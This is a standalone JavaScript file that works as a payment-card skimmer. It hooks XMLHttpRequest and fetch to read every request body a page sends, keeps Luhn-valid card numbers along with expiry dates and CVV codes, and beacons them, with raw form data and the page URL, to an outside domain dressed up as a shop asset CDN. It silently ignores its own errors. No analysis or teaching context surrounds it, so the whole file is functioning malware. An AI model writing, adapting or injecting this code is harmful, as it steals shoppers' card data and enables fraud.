(function () {
  'use strict';

  var COLLECTOR = 'https://cdn-shopassets-cache.pw/b/collect';
  var seen = {};

  function luhn(num) {
    var sum = 0;
    var alt = false;
    for (var i = num.length - 1; i >= 0; i--) {
      var n = parseInt(num.charAt(i), 10);
      if (alt) {
        n *= 2;
        if (n > 9) n -= 9;
      }
      sum += n;
      alt = !alt;
    }
    return sum % 10 === 0;
  }

  function bodyToString(body) {
    if (!body) return '';
    if (typeof body === 'string') return body;
    if (typeof FormData !== 'undefined' && body instanceof FormData) {
      var parts = [];
      body.forEach(function (v, k) { parts.push(k + '=' + v); });
      return parts.join('&');
    }
    if (typeof URLSearchParams !== 'undefined' && body instanceof URLSearchParams) return body.toString();
    try { return JSON.stringify(body); } catch (e) { return String(body); }
  }

  function inspect(url, raw) {
    var text = decodeURIComponent(bodyToString(raw).replace(/\+/g, ' '));
    var candidates = text.replace(/[\s-]/g, '').match(/\d{13,19}/g) || [];
    var hits = candidates.filter(luhn);
    if (!hits.length) return;
    var key = hits.join(',');
    if (seen[key]) return;
    seen[key] = 1;
    var exp = text.match(/(0[1-9]|1[0-2])\s*\/?\s*(\d{2,4})/);
    var cvv = text.match(/"?(cvv|cvc|cid|security_?code)"?\s*[:=]\s*"?(\d{3,4})/i);
    var report = {
      pan: hits,
      exp: exp ? exp[0] : null,
      cvv: cvv ? cvv[2] : null,
      raw: text.slice(0, 4000),
      url: String(url),
      page: location.href
    };
    navigator.sendBeacon(COLLECTOR, new Blob([JSON.stringify(report)], { type: 'text/plain' }));
  }

  var xo = XMLHttpRequest.prototype.open;
  var xs = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.open = function (m, u) {
    this.__url = u;
    return xo.apply(this, arguments);
  };
  XMLHttpRequest.prototype.send = function (b) {
    try { inspect(this.__url, b); } catch (e) {}
    return xs.apply(this, arguments);
  };

  if (window.fetch) {
    var of = window.fetch;
    window.fetch = function (input, init) {
      try {
        inspect(typeof input === 'string' ? input : input.url, init && init.body);
      } catch (e) {}
      return of.apply(this, arguments);
    };
  }
})();
